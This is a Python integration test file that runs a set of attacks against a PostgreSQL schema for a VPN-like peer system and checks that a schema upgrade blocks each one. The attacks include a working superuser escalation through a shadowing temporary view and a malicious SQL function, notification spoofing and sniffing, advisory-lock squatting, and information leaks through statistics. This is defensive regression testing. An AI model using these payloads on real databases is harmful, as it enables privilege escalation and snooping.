"""Every attack of issue 14, run as a real peer login against a real PostgreSQL.

Each attack is shown to work against a database at schema v10 — so the test can see it — and to
fail once that same database is migrated in place with `schema.migrate` (which also tests the
upgrade). One database per attack, copied from a v10 template (tests/integration/hostile.py).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import psycopg
import pytest
from psycopg import sql

from pgvpn_agent import schema
from tests.integration.hostile import (
    BAD_INPUT,
    DENIED,
    OPERATOR,
    OVER_QUOTA,
    PREVIOUS,
    READER,
    SEND_ANY,
    SENT,
    Batch,
    Cluster,
    batch,
    cluster_fixture,
    send,
    send_any,
)

pytestmark = pytest.mark.integration

Conn = psycopg.Connection[Any]
V10_SENDER_LOCK = 0x7076_0001  # pgvpn_agent/db.py before schema v11: (this, peer id)
# v11: the agent's locks through the owner's function, keyed on the caller's own peer id (the
# same key for the sender), with a token naming the agent process
LOCK_PEER = "SELECT pgvpn.lock_peer(%s::int2, %s)"
RESERVED = ("agent", "reader", "operator", "owner", "housekeeping", "metrics")


@pytest.fixture(scope="module")
def cluster() -> Iterator[Cluster]:
    yield from cluster_fixture()


@dataclass
class Target:
    """One attack's database: sessions as any login, and the superuser's view of it."""

    cluster: Cluster
    database: str
    sessions: list[Conn] = field(default_factory=list)

    def login(self, role: str) -> Conn:
        conn = self.cluster.connect(self.database, role)
        self.sessions.append(conn)
        return conn

    def peer(self, name: str = "peer1") -> Conn:
        return self.login(f"pgvpn_{name}")

    def id(self, name: str) -> int:
        return self.cluster.ids[name]

    def admin(self, query: Any, params: Any = None) -> list[Any]:
        return self.cluster.admin(query, params, database=self.database)

    def value(self, query: Any, params: Any = None) -> Any:
        rows = self.admin(query, params)
        return rows[0][0] if rows else None

    def close(self) -> None:
        for conn in self.sessions:
            conn.close()
        self.sessions.clear()


def one(conn: Conn, query: Any, params: Any = None) -> Any:
    """The single value a statement returns."""
    row = conn.execute(query, params).fetchone()
    assert row is not None
    return row[0]


def refused(conn: Conn, query: Any, params: Any = None) -> str:
    """The SQLSTATE of a statement that must fail; the session stays usable."""
    with pytest.raises(psycopg.Error) as info:
        conn.execute(query, params)
    assert conn.execute("SELECT 1").fetchone() == (1,)
    return info.value.sqlstate or ""


def is_super(t: Target, role: str) -> bool:
    return bool(t.value("SELECT rolsuper FROM pg_roles WHERE rolname = %s", (role,)))


def yesterday() -> str:
    return (datetime.now(UTC).date() - timedelta(days=1)).strftime("%Y%m%d")


def as_owner(t: Target, statement: str) -> None:
    """Run `statement` as the schema's owner, as the owner's own functions would: postgres at
    v10, pgvpn_owner after the upgrade (FORCE row-level security binds it)."""
    owner = t.value("SELECT nspowner::regrole::text FROM pg_namespace WHERE nspname = 'pgvpn'")
    t.admin(sql.SQL("SET ROLE {}; {}; RESET ROLE").format(
        sql.Identifier(owner), sql.SQL(statement)))


def closed_day(t: Target) -> str:
    """Yesterday's partition with a row in it, as a running system leaves behind: made by the
    schema's owner, the row inserted as postgres."""
    day = yesterday()
    part = f"packet_{day}"
    as_owner(t, f"CREATE TABLE pgvpn.{part} PARTITION OF pgvpn.packet FOR VALUES FROM "
                f"('{day}'::date::timestamp AT TIME ZONE 'UTC') TO "
                f"(('{day}'::date + 1)::timestamp AT TIME ZONE 'UTC')")
    t.admin("INSERT INTO pgvpn.packet (src_peer, dst_peer, seq, sent_at, logged_at, ip_version, "
            "src_addr, dst_addr, protocol, length, payload) VALUES (%s, %s, -1, %s, %s, 4, "
            "'10.77.0.1', '10.77.0.2', 17, 4, '\\x45000000')",
            (t.id("peer1"), t.id("peer2"), f"{day} 12:00+00", f"{day} 12:00+00"))
    return part


def exists(t: Target, relation: str) -> bool:
    return t.value("SELECT to_regclass(%s) IS NOT NULL", (relation,)) is True


def partitions(t: Target) -> int:
    return int(t.value("SELECT count(*) FROM pg_inherits "
                       "WHERE inhparent = 'pgvpn.packet'::regclass"))


def link(t: Target, src: str, dst: str) -> tuple[int, int, int, int]:
    """(tx_seq, rows, distinct seqs, max seq) of one link."""
    row = t.admin("SELECT l.tx_seq, count(p.seq), count(DISTINCT p.seq), coalesce(max(p.seq), 0) "
                  "FROM pgvpn.link l LEFT JOIN pgvpn.packet p ON p.src_peer = l.src "
                  "AND p.dst_peer = l.dst WHERE l.src = %s AND l.dst = %s GROUP BY l.tx_seq",
                  (t.id(src), t.id(dst)))[0]
    return int(row[0]), int(row[1]), int(row[2]), int(row[3])


def tx(t: Target, src: str, dst: str) -> int:
    """The link's sequence number now: where an honest sender continues."""
    return link(t, src, dst)[0]


def log_state(t: Target) -> list[Any]:
    return t.admin("SELECT l.src, l.dst, l.tx_seq, (SELECT count(*) FROM pgvpn.packet p "
                   "WHERE p.src_peer = l.src AND p.dst_peer = l.dst) "
                   "FROM pgvpn.link l ORDER BY 1, 2")


def notifications(conn: Conn, timeout: float, expect: int | None = None
                  ) -> list[tuple[str, str]]:
    """What `conn` hears within `timeout` seconds, or as soon as `expect` notifications came
    (any earlier one, spoofed or sniffed, is among them: notifications arrive in commit
    order)."""
    return [(n.channel, n.payload) for n in conn.notifies(timeout=timeout, stop_after=expect)]


class Attack:
    """An exploit at schema v10 and the same attack after the upgrade; `repair` (as the
    superuser, between the two) removes what the exploit left in this database."""

    name = ""

    def exploit(self, t: Target) -> None:
        raise NotImplementedError

    def repair(self, t: Target) -> None:
        return None

    def refused(self, t: Target) -> None:
        raise NotImplementedError


# -- 1. a peer becomes superuser through a definer function and a temporary view ----------------

# evil() notes who ran it (a setting of the attacker's own session) and tries to make the
# session's login a superuser; the temporary view shadows pg_catalog.pg_inherits, which
# pgvpn.partitions() names without its schema.
EVIL = """
CREATE FUNCTION pg_temp.evil() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    PERFORM set_config('hostile.ran_as', current_user, false);
    BEGIN
        EXECUTE format('ALTER ROLE %I SUPERUSER', session_user);
    EXCEPTION WHEN insufficient_privilege THEN NULL;
    END;
    RETURN true;
END $$;
CREATE TEMP VIEW pg_inherits AS
    SELECT inhrelid, inhparent, inhseqno, inhdetachpending FROM pg_catalog.pg_inherits
    WHERE pg_temp.evil();
"""


class SuperuserViaSearchPath(Attack):
    name = "superuser_via_search_path"

    def exploit(self, t: Target) -> None:
        conn = t.peer()
        conn.execute(EVIL)
        assert one(conn, "SELECT count(*) FROM pgvpn.partitions()") > 0
        assert conn.execute("SELECT current_setting('hostile.ran_as')").fetchone() == (
            "postgres",)
        assert is_super(t, "pgvpn_peer1")

    def refused(self, t: Target) -> None:
        # no temporary objects at all for a peer (TEMPORARY is PUBLIC's, revoked) ...
        conn = t.peer()
        assert refused(conn, EVIL) == DENIED
        assert refused(conn, "CREATE TEMP VIEW pg_inherits AS SELECT 1") == DENIED
        # ... and with TEMPORARY granted back, the function still does not see the view:
        # its search_path ends in pg_temp, names are qualified, its owner is no superuser
        t.admin(sql.SQL("GRANT TEMPORARY ON DATABASE {} TO pgvpn_peer2, {}").format(
            sql.Identifier(t.database), sql.Identifier(READER)))
        peer2 = t.peer("peer2")
        peer2.execute(EVIL)
        assert refused(peer2, "SELECT * FROM pgvpn.partitions()") == DENIED
        reader = t.login(READER)
        reader.execute(EVIL)
        days = one(reader, "SELECT count(*) FROM pgvpn.partitions()")
        assert days == partitions(t) - 1  # every day, not packet_default
        assert one(reader, "SELECT current_setting('hostile.ran_as', true)") \
            in (None, "")
        assert not is_super(t, READER) and not is_super(t, "pgvpn_peer2")
        owner, config = t.admin("SELECT proowner::regrole::text, proconfig FROM pg_proc "
                                "WHERE oid = 'pgvpn.partitions()'::regprocedure")[0]
        assert owner == schema.OWNER and not is_super(t, owner)
        assert re.fullmatch(r"search_path=.*\bpg_temp", next(
            c for c in config if c.startswith("search_path=")))


# -- 2. peers (and readers) run the operators' functions ---------------------------------------

class RetentionBy(Attack):
    """apply_retention(0, 0) drops every closed day of everyone's log."""

    def __init__(self, role: str) -> None:
        self.role = role
        self.name = f"apply_retention_by_{'peer' if role.startswith('pgvpn_') else 'reader'}"

    def exploit(self, t: Target) -> None:
        part = closed_day(t)
        dropped = t.login(self.role).execute(
            "SELECT partition FROM pgvpn.apply_retention(0, 0)").fetchall()
        assert dropped == [(part,)] and not exists(t, f"pgvpn.{part}")

    def refused(self, t: Target) -> None:
        part = closed_day(t)
        assert refused(t.login(self.role), "SELECT * FROM pgvpn.apply_retention(0, 0)") == DENIED
        assert t.value(f"SELECT count(*) FROM pgvpn.{part}") == 1


class UnboundedPartitions(Attack):
    name = "ensure_partitions_unbounded"
    DAYS = 120

    def exploit(self, t: Target) -> None:
        before = partitions(t)
        made = one(t.peer(), "SELECT pgvpn.ensure_partitions(%s)", (self.DAYS,))
        assert made > 31 and partitions(t) == before + made

    def refused(self, t: Target) -> None:
        before = partitions(t)
        conn = t.peer()
        assert refused(conn, "SELECT pgvpn.ensure_partitions(%s)", (self.DAYS,)) == DENIED
        assert refused(conn, "SELECT pgvpn.ensure_partitions()") == DENIED
        # the operator who may call it is bounded too
        operator = t.login(OPERATOR)
        assert refused(operator, "SELECT pgvpn.ensure_partitions(%s)", (self.DAYS,)) == BAD_INPUT
        assert partitions(t) == before


def peer_id_seq(t: Target) -> int:
    return int(t.value("SELECT pg_sequence_last_value(pg_get_serial_sequence('pgvpn.peer', "
                       "'id')::regclass)"))


class ExhaustPeerIds(Attack):
    """register_peers() with names that exist still takes an identity value per name (trap 15):
    one call with 40000 names leaves no smallint id for a new peer."""

    name = "register_peers_exhausts_ids"

    def exploit(self, t: Target) -> None:
        conn = t.peer()
        start = peer_id_seq(t)
        conn.execute("SELECT count(*) FROM pgvpn.register_peers(ARRAY['peer1', 'peer2'])")
        assert peer_id_seq(t) == start + 2  # nothing registered, two ids gone
        assert refused(conn, "SELECT count(*) FROM pgvpn.register_peers("
                       "array_fill('peer1'::text, ARRAY[40000]))") == "2200H"
        with pytest.raises(psycopg.errors.SequenceGeneratorLimitExceeded):
            t.admin("SELECT * FROM pgvpn.register_peers(ARRAY['peer4'])")

    def repair(self, t: Target) -> None:
        t.admin("SELECT setval(pg_get_serial_sequence('pgvpn.peer', 'id'), "
                "(SELECT max(id) FROM pgvpn.peer))")

    def refused(self, t: Target) -> None:
        start = peer_id_seq(t)
        conn = t.peer()
        assert refused(conn, "SELECT * FROM pgvpn.register_peers(ARRAY['peer1'])") == DENIED
        assert refused(conn, "SELECT * FROM pgvpn.register_peers("
                       "array_fill('peer1'::text, ARRAY[40000]))") == DENIED
        operator = t.login(OPERATOR)
        operator.execute("SELECT * FROM pgvpn.register_peers(ARRAY['peer1', 'peer2', 'peer3'])")
        assert refused(operator, "SELECT * FROM pgvpn.register_peers("
                       "array_fill('peer1'::text, ARRAY[1001]))") == BAD_INPUT
        assert peer_id_seq(t) == start


class FakePeer(Attack):
    name = "register_peers_fake_peer"

    def exploit(self, t: Target) -> None:
        t.peer().execute("SELECT * FROM pgvpn.register_peers(ARRAY['peer1', 'mallory'])")
        assert t.value("SELECT count(*) FROM pgvpn.link l JOIN pgvpn.peer p "
                       "ON p.id IN (l.src, l.dst) WHERE p.name = 'mallory'") == 2

    def repair(self, t: Target) -> None:
        for table, where in (("cursor", "src = m OR dst = m"), ("link", "src = m OR dst = m"),
                             ("peer", "id = m")):
            t.admin(f"DELETE FROM pgvpn.{table} USING (SELECT id AS m FROM pgvpn.peer "
                    f"WHERE name = 'mallory') AS x WHERE {where}")

    def refused(self, t: Target) -> None:
        assert refused(t.peer(), "SELECT * FROM pgvpn.register_peers(ARRAY['peer1', "
                       "'mallory'])") == DENIED
        assert t.value("SELECT count(*) FROM pgvpn.peer WHERE name = 'mallory'") == 0


class IndexClosedDays(Attack):
    name = "index_closed_days_by_peer"

    @staticmethod
    def indexes(t: Target) -> int:
        names = [f"packet_{yesterday()}_{col}"
                 for col in ("src_addr", "dst_addr", "src_port", "dst_port")]
        return int(t.value("SELECT count(*) FROM pg_indexes WHERE schemaname = 'pgvpn' "
                           "AND indexname = ANY (%s)", (names,)))

    def exploit(self, t: Target) -> None:
        closed_day(t)
        assert t.peer().execute("SELECT pgvpn.index_closed_days()").fetchone() == (4,)
        assert self.indexes(t) == 4

    def repair(self, t: Target) -> None:
        t.admin(f"DROP TABLE pgvpn.packet_{yesterday()}")

    def refused(self, t: Target) -> None:
        closed_day(t)
        assert refused(t.peer(), "SELECT pgvpn.index_closed_days()") == DENIED
        assert self.indexes(t) == 0


# -- 3. advisory locks: squatting another agent's key, or housekeeping's -----------------------

class SquatPeerLock(Attack):
    name = "advisory_lock_squats_peer"

    def exploit(self, t: Target) -> None:
        t.peer().execute("SELECT pg_advisory_lock(%s, %s)", (V10_SENDER_LOCK, t.id("peer2")))
        # what peer2's agent does at start (v10): it is told another agent runs as peer2
        assert t.peer("peer2").execute("SELECT pg_try_advisory_lock(%s, %s)", (
            V10_SENDER_LOCK, t.id("peer2"))).fetchone() == (False,)

    def refused(self, t: Target) -> None:
        conn = t.peer()
        for call in ("pg_advisory_lock(%s, %s)", "pg_try_advisory_lock(%s, %s)",
                     "pg_advisory_lock_shared(%s, %s)", "pg_advisory_xact_lock(%s, %s)"):
            assert refused(conn, f"SELECT {call}", (V10_SENDER_LOCK, t.id("peer2"))) == DENIED
        assert t.admin("SELECT p.oid::regprocedure FROM pg_proc p WHERE p.proname LIKE "
                       "'%advisory%' AND has_function_privilege('pgvpn_peer1', p.oid, "
                       "'EXECUTE')") == []
        # the agent's lock: its own key, once (-1: taken; 0: another agent process holds it;
        # a pid: this process's own session from before a reconnect, which it may end)
        assert one(conn, LOCK_PEER, (1, "agent-a1")) == -1
        assert one(t.peer(), LOCK_PEER, (1, "agent-a2")) == 0
        assert one(t.peer(), LOCK_PEER, (1, "agent-a1")) == conn.info.backend_pid
        assert one(t.peer("peer2"), LOCK_PEER, (1, "agent-a1")) == -1
        held = t.admin("SELECT a.usename::text, l.classid::bigint, l.objid::bigint "
                       "FROM pg_locks l JOIN pg_stat_activity a ON a.pid = l.pid "
                       "WHERE l.locktype = 'advisory' AND l.database = "
                       "(SELECT oid FROM pg_database WHERE datname = current_database()) "
                       "ORDER BY 1")
        assert held == [("pgvpn_peer1", V10_SENDER_LOCK, t.id("peer1")),
                        ("pgvpn_peer2", V10_SENDER_LOCK, t.id("peer2"))]
        assert refused(conn, LOCK_PEER, (3, "agent-a1")) == BAD_INPUT


class SquatRetentionLock(Attack):
    name = "advisory_lock_stops_retention"

    def exploit(self, t: Target) -> None:
        part = closed_day(t)
        t.peer().execute("SELECT pg_advisory_lock(hashtext('pgvpn.apply_retention'))")
        assert t.admin("SELECT * FROM pgvpn.apply_retention(0, 0)") == []
        assert exists(t, f"pgvpn.{part}")

    def repair(self, t: Target) -> None:
        t.admin(f"DROP TABLE pgvpn.packet_{yesterday()}")

    def refused(self, t: Target) -> None:
        part = closed_day(t)
        assert refused(t.peer(), "SELECT pg_advisory_lock(hashtext('pgvpn.apply_retention'))"
                       ) == DENIED
        dropped = t.login(OPERATOR).execute(
            "SELECT partition FROM pgvpn.apply_retention(0, 0)").fetchall()
        assert dropped == [(part,)]


# -- 4. and 5. NOTIFY: sniffing another peer's wake-ups, sending fake ones ----------------------

class SniffChannel(Attack):
    name = "listen_on_another_peers_channel"

    def exploit(self, t: Target) -> None:
        spy = t.peer()
        spy.execute("LISTEN pgvpn_peer2")
        send(t.peer("peer3"), t.id("peer3"), t.id("peer2"), SENT + 1)
        # who talks to peer2, when, and how much (the sequence number counts packets)
        assert notifications(spy, 5, expect=1) == [
            ("pgvpn_peer2", f"{t.id('peer3')}:{SENT + 1}")]

    def refused(self, t: Target) -> None:
        spy = t.peer()
        assert refused(spy, "SELECT channel FROM pgvpn.peer") == DENIED
        assert refused(spy, "SELECT * FROM pgvpn.peer") == DENIED
        spy.execute("LISTEN pgvpn_peer2")
        receiver = t.peer("peer2")
        channel = one(receiver, "SELECT pgvpn.my_channel()")
        assert re.fullmatch(r"pgvpn_[0-9a-f]{32}", channel)
        assert channel != one(spy, "SELECT pgvpn.my_channel()")
        receiver.execute(sql.SQL("LISTEN {}").format(sql.Identifier(channel)))
        seq = tx(t, "peer3", "peer2") + 1
        send(t.peer("peer3"), t.id("peer3"), t.id("peer2"), seq)
        assert notifications(receiver, 5, expect=1) == [(channel, f"{t.id('peer3')}:{seq}")]
        assert notifications(spy, 1) == []


SPOOFS = ("SELECT pg_notify('pgvpn_peer2', '3:999999')", "NOTIFY pgvpn_peer2, '3:999998'")
SPOOFED = [("pgvpn_peer2", "3:999999"), ("pgvpn_peer2", "3:999998")]


class SpoofWakeUp(Attack):
    """A fake wake-up for another peer's receiver. pg_notify() stays executable by PUBLIC on
    purpose: the NOTIFY command needs no privilege at all (and a DO block or a multi-statement
    query sends as many as it likes), so revoking the function would only break payload mode.
    What the upgrade takes away is the address: a v10 receiver listens on the well-known
    `pgvpn_<name>`, a v11 one on its secret my_channel(), which no other peer can read."""

    name = "spoofed_wake_up"

    def exploit(self, t: Target) -> None:
        victim = t.peer("peer2")
        victim.execute("LISTEN pgvpn_peer2")  # what peer2's v10 receiver does
        spoofer = t.peer()
        for spoof in SPOOFS:
            spoofer.execute(spoof)
        assert notifications(victim, 5, expect=2) == SPOOFED

    def refused(self, t: Target) -> None:
        victim = t.peer("peer2")
        channel = one(victim, "SELECT pgvpn.my_channel()")
        victim.execute(sql.SQL("LISTEN {}").format(sql.Identifier(channel)))
        spoofer = t.peer()
        # deliberately left to PUBLIC (the catalog test records it)
        assert one(spoofer, "SELECT has_function_privilege('pg_notify(text,text)', 'EXECUTE')")
        # the victim's channel is not to be learnt ...
        assert refused(spoofer, "SELECT channel FROM pgvpn.peer") == DENIED
        assert refused(spoofer, "SELECT name FROM pgvpn.peer WHERE channel LIKE 'pgvpn%'"
                       ) == DENIED
        assert one(spoofer, "SELECT pgvpn.my_channel()") != channel
        # ... so both spoofs go out (their sender hears them itself) to the old name, where
        # no one listens any more
        spoofer.execute("LISTEN pgvpn_peer2")
        for spoof in SPOOFS:
            spoofer.execute(spoof)
        assert notifications(spoofer, 5, expect=2) == SPOOFED
        # the victim hears the honest sender that wrote after the spoofs, and nothing before
        seq = tx(t, "peer3", "peer2") + 1
        send(t.peer("peer3"), t.id("peer3"), t.id("peer2"), seq)
        assert notifications(victim, 5, expect=1) == [(channel, f"{t.id('peer3')}:{seq}")]
        assert notifications(victim, 0.5) == []


# -- 5b. statistics: other peers' sessions and locks, and the volumes the planner knows ---------

# A v10 agent's lock (db.py before schema v11): the key names the peer whose agent runs.
HOLD_V10_LOCK = "SELECT pg_advisory_lock(%s, %s)"
SEEN_SESSION = ("SELECT a.usename::text, a.datname::text, l.classid::bigint, l.objid::bigint "
                "FROM pg_stat_activity a JOIN pg_locks l ON l.pid = a.pid "
                "WHERE a.pid = %(pid)s AND l.locktype = 'advisory'")
# What a peer must not read any more, and what it reads it through.
STATISTICS = (
    "SELECT usename FROM pg_stat_activity",
    "SELECT pid FROM pg_locks",
    "SELECT pid FROM pg_stat_get_activity(NULL)",
    "SELECT pid FROM pg_lock_status()",
    "SELECT pg_blocking_pids(%(pid)s)",
    "SELECT pg_safe_snapshot_blocking_pids(%(pid)s)",
    "SELECT pg_stat_get_backend_userid(b) FROM pg_stat_get_backend_idset() b",
    "SELECT relname, n_tup_ins FROM pg_stat_user_tables",
    "SELECT relname, heap_blks_hit FROM pg_statio_user_tables",
    "SELECT pg_stat_get_tuples_inserted('pgvpn.packet_default'::regclass)",
    "SELECT datname, xact_commit FROM pg_stat_database",
)


class SessionsAndLocks(Attack):
    """pg_stat_activity and pg_locks show every session of the cluster: that peer2 is
    connected (its pid, database and login; PostgreSQL itself hides the state and start time
    of another role's session, but polling shows when it comes and goes) and which agent
    holds which lock. After the upgrade only operators and monitoring read them."""

    name = "statistics_show_other_peers"

    def exploit(self, t: Target) -> None:
        other = t.peer("peer2")
        other.execute(HOLD_V10_LOCK, (V10_SENDER_LOCK, t.id("peer2")))
        pid = other.info.backend_pid
        spy = t.peer()
        assert spy.execute(SEEN_SESSION, {"pid": pid}).fetchall() == [
            ("pgvpn_peer2", t.database, V10_SENDER_LOCK, t.id("peer2"))]
        assert spy.execute("SELECT usename::text FROM pg_stat_get_activity(%s) a "
                           "JOIN pg_user u ON u.usesysid = a.usesysid", (pid,)).fetchall() == [
            ("pgvpn_peer2",)]
        # every statement below runs for a peer at v10
        for query in STATISTICS:
            spy.execute(query, {"pid": pid})

    def refused(self, t: Target) -> None:
        other = t.peer("peer2")
        assert one(other, LOCK_PEER, (1, "agent-b1")) == -1
        pid = other.info.backend_pid
        spy = t.peer()
        for query in (SEEN_SESSION, *STATISTICS):
            assert refused(spy, query, {"pid": pid}) == DENIED, query
        # operators (and pg_monitor) keep them: the v11 agent's lock (lock_peer: the same
        # key), held by peer2
        reader = t.login(READER)
        assert reader.execute(SEEN_SESSION, {"pid": pid}).fetchall() == [
            ("pgvpn_peer2", t.database, V10_SENDER_LOCK, t.id("peer2"))]


def explain_rows(conn: Conn, query: str, params: Any = None) -> int:
    """The planner's row estimate for `query`, as EXPLAIN shows it to whoever may run it."""
    plan = one(conn, f"EXPLAIN (FORMAT JSON) {query}", params)
    return int(plan[0]["Plan"]["Plan Rows"])


LOG_TABLES = ("SELECT c.oid FROM pg_class c WHERE c.oid = 'pgvpn.packet'::regclass "
              "OR c.oid IN (SELECT inhrelid FROM pg_inherits "
              "WHERE inhparent = 'pgvpn.packet'::regclass)")


class PlannerStatistics(Attack):
    """EXPLAIN shows anyone who may query a table the planner's estimates, made from column
    statistics gathered over every row, row-level security or not: with skewed traffic (peer3
    sends peer2 a thousand packets, peer2 answers with three), peer1 reads off who sends whom
    how much. After the upgrade the log keeps statistics on logged_at only (on the table and
    every partition, old or new), and what v10 gathered is gone."""

    name = "explain_shows_volumes"
    HEAVY = 1000

    def traffic(self, t: Target) -> None:
        """HEAVY more rows peer3 -> peer2 (peer2 -> peer3 keeps its SENT), then ANALYZE."""
        first = tx(t, "peer3", "peer2") + 1
        t.admin("INSERT INTO pgvpn.packet (src_peer, dst_peer, seq, sent_at, ip_version, "
                "src_addr, dst_addr, protocol, length, payload) SELECT %(src)s, %(dst)s, g, "
                "now(), 4, '10.77.0.3', '10.77.0.2', 17, 4, '\\x45000000' "
                "FROM generate_series(%(first)s::bigint, %(last)s::bigint) g",
                {"src": t.id("peer3"), "dst": t.id("peer2"), "first": first,
                 "last": first + self.HEAVY - 1})
        t.admin("UPDATE pgvpn.link SET tx_seq = %s WHERE src = %s AND dst = %s",
                (first + self.HEAVY - 1, t.id("peer3"), t.id("peer2")))
        t.admin("ANALYZE pgvpn.packet")

    def estimates(self, t: Target) -> tuple[int, int]:
        """peer1's estimates for the rows on peer3 -> peer2 and on peer2 -> peer3."""
        spy = t.peer()
        query = "SELECT * FROM pgvpn.packet WHERE src_peer = %s AND dst_peer = %s"
        return (explain_rows(spy, query, (t.id("peer3"), t.id("peer2"))),
                explain_rows(spy, query, (t.id("peer2"), t.id("peer3"))))

    @staticmethod
    def analysed(t: Target) -> list[str]:
        """The columns of the log with statistics (any table of it), as the superuser sees."""
        return [r[0] for r in t.admin(
            "SELECT DISTINCT attname::text FROM pg_stats WHERE schemaname = 'pgvpn' "
            "AND (tablename = 'packet' OR tablename LIKE 'packet\\_%') ORDER BY 1")]

    @staticmethod
    def targets(t: Target, tables: list[str]) -> dict[str, list[int]]:
        """column -> the statistics targets it has in `tables` (attstattarget, -1: default)."""
        return dict(t.admin(
            "SELECT a.attname::text, array_agg(DISTINCT a.attstattarget::int) "
            "FROM pg_attribute a WHERE a.attrelid = ANY (%s::regclass[]) AND a.attnum > 0 "
            "AND NOT a.attisdropped GROUP BY 1", (tables,)))

    @staticmethod
    def log_tables(t: Target) -> list[str]:
        return [r[0] for r in t.admin(f"SELECT oid::regclass::text FROM pg_class "
                                      f"WHERE oid IN ({LOG_TABLES}) ORDER BY 1")]

    def exploit(self, t: Target) -> None:
        self.traffic(t)
        heavy, light = self.estimates(t)
        assert heavy >= 50 * light, (heavy, light)
        assert {"src_peer", "dst_peer", "dst_addr", "dst_port"} <= set(self.analysed(t))

    def refused(self, t: Target) -> None:
        # what v10 gathered is gone with the upgrade, before any new ANALYZE
        assert self.analysed(t) == ["logged_at"]
        heavy, light = self.estimates(t)
        assert heavy == light
        # and no ANALYZE gathers it again: not on today's partition ...
        self.traffic(t)
        assert self.analysed(t) == ["logged_at"]
        heavy, light = self.estimates(t)
        assert heavy == light
        tables = self.log_tables(t)
        hidden = {c: [-1 if c == "logged_at" else 0] for c in self.targets(t, tables)}
        assert len(hidden) > 10 and hidden["src_peer"] == [0]
        assert self.targets(t, tables) == hidden
        # ... nor on a day housekeeping makes later
        assert one(t.login(OPERATOR), "SELECT pgvpn.ensure_partitions(9)") > 0
        new = sorted(set(self.log_tables(t)) - set(tables))
        assert new and self.targets(t, new) == hidden


# -- 6. and 7. storage outside any quota: large objects, temporary tables -----------------------

class LargeObjects(Attack):
    name = "large_objects"

    def exploit(self, t: Target) -> None:
        oid = one(t.peer(), "SELECT lo_from_bytea(0, repeat('x', 1000)::bytea)")
        assert t.admin("SELECT lomowner::regrole::text, (SELECT sum(length(data)) "
                       "FROM pg_largeobject WHERE loid = %s) FROM pg_largeobject_metadata "
                       "WHERE oid = %s", (oid, oid)) == [("pgvpn_peer1", 1000)]

    def repair(self, t: Target) -> None:
        t.admin("SELECT lo_unlink(oid) FROM pg_largeobject_metadata")

    def refused(self, t: Target) -> None:
        conn = t.peer()
        for call in ("lo_from_bytea(0, repeat('x', 1000)::bytea)", "lo_create(0)",
                     "lo_creat(-1)"):
            assert refused(conn, f"SELECT {call}") == DENIED
        assert t.value("SELECT count(*) FROM pg_largeobject_metadata") == 0


class TempTables(Attack):
    name = "temporary_tables"
    FILL = ("CREATE TEMP TABLE t AS SELECT repeat(md5(g::text), 32) AS x "
            "FROM generate_series(1, 1000) g")

    def exploit(self, t: Target) -> None:
        conn = t.peer()
        conn.execute(self.FILL)
        assert conn.execute("SELECT count(*), pg_total_relation_size('pg_temp.t') > 0 "
                            "FROM pg_temp.t").fetchone() == (1000, True)

    def refused(self, t: Target) -> None:
        conn = t.peer()
        assert refused(conn, self.FILL) == DENIED
        assert refused(conn, "CREATE TEMP SEQUENCE s") == DENIED


# -- 8. row-level security binds the owner too ---------------------------------------------------

FORCED = ("SELECT c.relname::text, c.relforcerowsecurity FROM pg_class c WHERE c.oid IN "
          "('pgvpn.packet'::regclass, 'pgvpn.link'::regclass, 'pgvpn.cursor'::regclass) "
          "ORDER BY 1")


class ForceRowSecurity(Attack):
    name = "force_row_level_security"

    def exploit(self, t: Target) -> None:
        assert t.admin(FORCED) == [("cursor", False), ("link", False), ("packet", False)]
        assert t.value("SELECT relowner::regrole::text FROM pg_class "
                       "WHERE oid = 'pgvpn.packet'::regclass") == "postgres"

    def refused(self, t: Target) -> None:
        assert t.admin(FORCED) == [("cursor", True), ("link", True), ("packet", True)]
        # the owner's definer functions still work for an honest agent, as that agent
        send(t.peer(), t.id("peer1"), t.id("peer2"), SENT + 1, count=2)
        assert link(t, "peer1", "peer2") == (SENT + 2, SENT + 2, SENT + 2, SENT + 2)
        receiver = t.peer("peer2")
        seen = receiver.execute("SELECT src_peer, dst_peer, count(*) FROM pgvpn.packet "
                                "GROUP BY 1, 2 ORDER BY 1").fetchall()
        assert seen == [(t.id("peer1"), t.id("peer2"), SENT + 2),
                        (t.id("peer3"), t.id("peer2"), SENT)]
        moved = receiver.execute("UPDATE pgvpn.cursor SET rx_seq = %s WHERE src = %s AND dst = %s",
                                 (SENT + 2, t.id("peer1"), t.id("peer2")))
        assert moved.rowcount == 1
        assert t.peer().execute("UPDATE pgvpn.cursor SET rx_seq = 0 WHERE dst = %s",
                                (t.id("peer2"),)).rowcount == 0


# -- 9. send_batch() called directly, with whatever the agent would never send ------------------

@dataclass
class Abuse(Attack):
    """A batch only a hostile peer sends: accepted at v10 (leaving the log in a state an honest
    sender never makes), refused with `sqlstate` after, with nothing of it logged."""

    name: str = ""
    make: Callable[[Target], list[Batch]] = lambda t: []
    effect: Callable[[Target], None] = lambda t: None
    sqlstate: str = BAD_INPUT
    prepare: Callable[[Target], None] = lambda t: None

    def exploit(self, t: Target) -> None:
        conn = t.peer()
        for b in self.make(t):
            send_any(conn, b)
        self.effect(t)

    def refused(self, t: Target) -> None:
        self.prepare(t)
        conn = t.peer()
        batches = self.make(t)
        for b in batches[:-1]:
            send_any(conn, b)
        before = log_state(t)
        assert refused(conn, SEND_ANY, batches[-1]) == self.sqlstate
        assert log_state(t) == before


def ahead(t: Target) -> list[Batch]:
    n = tx(t, "peer1", "peer2")
    return [batch(t.id("peer1"), [(t.id("peer2"), n + 1000)],
                  links=[(t.id("peer2"), n + 1, n + 1)])]


def ahead_effect(t: Target) -> None:
    # a row above the link's sequence: the receiver's cursor jumps there, and the honest
    # packets SENT + 2 .. SENT + 999 that follow are never delivered
    assert link(t, "peer1", "peer2") == (SENT + 1, SENT + 1, SENT + 1, SENT + 1000)


def unlinked(t: Target) -> list[Batch]:
    n, m = tx(t, "peer1", "peer2"), tx(t, "peer1", "peer3")
    return [batch(t.id("peer1"), [(t.id("peer2"), n + 1), (t.id("peer3"), m + 1)],
                  links=[(t.id("peer2"), n + 1, n + 1)])]


def unlinked_effect(t: Target) -> None:
    # peer3's link did not advance, yet holds a row: the next honest SENT + 1 is a duplicate
    assert link(t, "peer1", "peer3") == (SENT, SENT + 1, SENT + 1, SENT + 1)


def backwards(t: Target) -> list[Batch]:
    n = tx(t, "peer1", "peer2")
    return [batch(t.id("peer1"), [(t.id("peer2"), n + 1), (t.id("peer2"), 1)],
                  links=[(t.id("peer2"), n + 1, n + 1)])]


